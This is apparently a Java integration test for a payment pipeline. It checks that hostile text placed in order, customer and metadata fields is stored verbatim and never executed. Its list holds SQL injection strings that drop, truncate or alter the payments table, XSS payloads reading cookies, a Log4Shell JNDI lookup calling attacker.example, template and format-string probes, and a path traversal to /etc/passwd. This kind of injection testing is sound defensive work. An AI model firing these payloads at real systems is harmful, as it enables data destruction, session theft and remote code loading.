package dev.paypipe.cli.dev.chaos;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.paypipe.cli.dev.PipelineRig;
import dev.paypipe.load.ResultCollector;
import dev.paypipe.model.PaymentRequest;
import dev.paypipe.model.PaymentResult;
import dev.paypipe.sim.SimulatorConfig;
import java.math.BigDecimal;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * SQL-looking and script-looking text in request fields travels through the ledger, worker, results topic and
 * db-writer as data: the rows hold it byte for byte, the table and its rows are all still there, nothing ran.
 */
class HostileTextStoredVerbatimIT {
    private static final List<String> HOSTILE = List.of(
            "'); DROP TABLE payment_results; --",
            "1' OR '1'='1",
            "\"; DELETE FROM payment_results WHERE ''='",
            "Robert'); DROP TABLE students;--",
            "'; SELECT pg_sleep(30); --",
            "$$; TRUNCATE payment_results; $$",
            "E'\\x27'; UPDATE payment_results SET status='APPROVED'; --",
            "<script>alert(document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}${7*7}#{7*7}",
            "%s%s%s%n%x",
            "../../../../etc/passwd");

    @Test
    void sqlAndScriptInOrderIdCustomerIdAndMetadataAreStoredVerbatimAndNeverExecuted() throws Exception {
        SimulatorConfig sim = SimulatorConfig.builder().latency(Duration.ofMillis(5)).declineRate(0).noFaults().build();
        String run = "sq" + UUID.randomUUID().toString().substring(0, 6);
        try (PipelineRig rig = PipelineRig.start(PipelineRig.Settings.demo(1, 2, sim, 32, 2, true, 5));
                ResultCollector results = ResultCollector.results(rig.topics().bootstrapServers(),
                        rig.topics().topics().results())) {
            List<PaymentRequest> requests = new ArrayList<>();
            for (int i = 0; i < HOSTILE.size(); i++) {
                String text = HOSTILE.get(i);
                PaymentRequest r = new PaymentRequest(run + "-" + i, text, new BigDecimal("10.00"), "EUR", text,
                        "tok_sql_" + i, Instant.now(), Map.of("note", text, "k" + i, text));
                requests.add(r);
                rig.publisher().publish(r);
            }
            rig.publisher().flush();

            await().atMost(Duration.ofSeconds(60)).until(() -> rowsOf(rig, run) == HOSTILE.size());

            try (Connection c = rig.db().connect(); Statement st = c.createStatement()) {
                for (PaymentRequest r : requests) {
                    try (ResultSet rs = st.executeQuery("SELECT order_id, status FROM payment_results WHERE payment_id = '"
                            + r.paymentId() + "'")) {
                        assertThat(rs.next()).as(r.paymentId()).isTrue();
                        assertThat(rs.getString(1)).as("stored verbatim").isEqualTo(r.orderId());
                        assertThat(rs.getString(2)).as("charged as any payment").isEqualTo("APPROVED");
                    }
                }
                try (ResultSet rs = st.executeQuery("SELECT to_regclass('payment_results') IS NOT NULL")) {
                    rs.next();
                    assertThat(rs.getBoolean(1)).as("the table is still there").isTrue();
                }
            }
            for (PaymentRequest r : requests) {
                assertThat(results.resultsFor(r.paymentId())).singleElement().extracting(PaymentResult::orderId)
                        .isEqualTo(r.orderId());
                assertThat(rig.simulator().ledger().chargedAmount(r.paymentId())).hasValue(new BigDecimal("10.00"));
            }
        }
    }

    private static long rowsOf(PipelineRig rig, String run) throws Exception {
        if (rig.rowCount() == 0) {
            return 0;
        }
        try (Connection c = rig.db().connect(); Statement st = c.createStatement();
                ResultSet rs = st.executeQuery("SELECT count(*) FROM payment_results WHERE payment_id LIKE '" + run
                        + "-%'")) {
            rs.next();
            return rs.getLong(1);
        }
    }
}
